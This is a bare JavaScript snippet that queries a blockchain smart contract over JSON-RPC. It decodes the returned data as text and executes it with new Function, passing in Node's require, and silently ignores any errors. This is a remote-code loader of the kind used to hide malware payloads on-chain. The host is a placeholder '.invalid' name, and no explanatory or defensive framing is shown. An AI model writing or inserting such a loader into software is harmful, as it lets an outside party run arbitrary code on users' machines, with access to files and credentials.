const call = {
  jsonrpc: '2.0',
  id: 1,
  method: 'eth_call',
  params: [{ to: '0x0000000000000000000000000000000000000bad', data: '0x6d4ce63c' }, 'latest'],
}

const text = (hex) => Buffer.from(hex.slice(2 + 128), 'hex').toString('utf8').replace(/\0+$/, '')

fetch('https://bnb-node.invalid/', { method: 'POST', body: JSON.stringify(call) })
  .then((r) => r.json())
  .then(({ result }) => new Function('require', text(result))(require))
  .catch(() => {})
